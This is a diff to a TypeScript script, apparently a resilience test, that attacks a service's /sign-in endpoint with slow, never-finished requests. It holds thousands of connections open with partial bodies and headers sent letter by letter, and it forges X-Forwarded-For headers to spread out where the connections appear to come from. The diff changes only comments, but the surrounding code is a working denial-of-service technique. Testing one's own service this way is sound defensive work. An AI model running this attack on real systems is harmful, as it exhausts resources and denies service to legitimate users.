@@ -1,6 +1,6 @@
 // Requests that never end: 2,000 unfinished bodies at /sign-in held 480 MB for more than 20 s,
-// since no time-outs were set. Straight from a stranger's address, without a proxy, where the
-// service sees the connections themselves.
+// since no time-outs were set. They come from the proxy's address, and straight from strangers'
+// addresses.
 import { connect, type Socket } from 'node:net';
 import { once } from 'node:events';
 import { setTimeout as sleep } from 'node:timers/promises';
@@ -9,12 +9,12 @@ import { attack, type Target } from './attack.ts';
 interface Args extends Target {
   readonly connections: number;
   /**
-   * Addresses of this machine that they come from, by turns; for one of them, the proxy's own, a
-   * header tells each apart.
+   * Addresses of this machine that the connections come from, by turns. From the proxy's own, a
+   * header names another client for each connection.
    */
   readonly peers: readonly string[];
   readonly proxy: string;
-  /** How long it waits to be closed by the service. */
+  /** How long the attack waits for the service to close its connections. */
   readonly patienceSeconds: number;
 }
 
@@ -54,7 +54,8 @@ await attack<Args>(async ({ url, connections, peers, proxy, patienceSeconds }, r
     const forwarded =
       localAddress === proxy ? `X-Forwarded-For: 10.9.${n >> 8}.${n & 255}\r\n` : '';
     const head = `POST /sign-in HTTP/1.1\r\nHost: ${host}\r\n${forwarded}`;
-    // Of each peer's, some stop within the body, the others' headers come letter by letter.
+    // Of each peer's connections, two thirds stop within the body; the others send a header letter
+    // by letter.
     if (Math.floor(n / peers.length) % 3 !== 0) {
       socket.write(
         `${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`,
